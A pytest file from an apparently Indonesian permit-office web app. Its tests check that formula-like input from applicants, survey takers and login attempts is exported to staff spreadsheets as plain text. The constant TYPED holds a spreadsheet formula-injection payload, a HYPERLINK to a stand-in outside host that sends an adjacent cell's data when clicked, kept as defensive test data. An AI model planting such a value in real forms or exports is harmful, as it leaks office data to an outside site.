"""Text typed by applicants and visitors reaches the office's spreadsheets (the queue export,
the IKM report's suggestions); a text starting with "=" must arrive as that text, never as a
formula that runs when a staff member opens the file."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from app.survey import responses, store
from tests.backoffice_helpers import staff_client
from tests.helpers import (
    login,
    make_applicant,
    make_finished,
    make_submitted,
    publish_catalogue,
    publish_questionnaire,
)
from tests.survey_helpers import answers

# sends the cell next to it to another site when the file is opened and clicked
TYPED = '=HYPERLINK("https://contoh.example/?d="&H5,"Lihat berkas")'


def _formulas(xlsx: bytes) -> list[str]:
    """The formula elements of every sheet of the workbook, as the spreadsheet would run them."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [name for name in book.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def test_a_company_name_typed_as_a_formula_is_text_in_the_queue_export(app):
    publish_catalogue(app)
    business, _ = make_applicant(app, kind="badan_usaha", company_name=TYPED)
    make_submitted(app, business, "SIUP-PERIKANAN")
    office, _ = staff_client(app, "Verifikator", "DPMPTSP")
    response = office.get("/admin/permohonan/ekspor.xlsx")
    assert response.status_code == 200
    assert _formulas(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == TYPED]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_survey_suggestion_typed_as_a_formula_is_text_in_the_ikm_report(app):
    publish_catalogue(app)
    publish_questionnaire(app)
    person, _ = make_applicant(app)
    application = make_finished(app, person, permit_code="IZIN-PENELITIAN")
    responses.submit(application, store.current_version(), answers({}, saran=TYPED),
                     channel="portal")
    client, _user = staff_client(app, "Helpdesk")
    response = client.get("/admin/ikm/ekspor.xlsx")
    assert response.status_code == 200
    assert _formulas(response.data) == []
    said = [r[2] for r in load_workbook(io.BytesIO(response.data))["Saran"].iter_rows(min_row=2)]
    assert [c.value for c in said] == [TYPED] and said[0].data_type == "s"


def test_a_login_identity_typed_as_a_formula_is_text_in_the_audit_export(app, client):
    """Anyone may type anything into the login box; the refusal is in the audit log."""
    login(client, TYPED, "Salah-Sandi-1")
    admin, _ = staff_client(app, "Super Admin")
    response = admin.get("/admin/audit/ekspor.xlsx?jenis=login.failed")
    assert response.status_code == 200
    assert _formulas(response.data) == []
    cells = [c for row in load_workbook(io.BytesIO(response.data)).active.iter_rows()
             for c in row if c.value == TYPED]
    assert cells and all(c.data_type == "s" for c in cells)
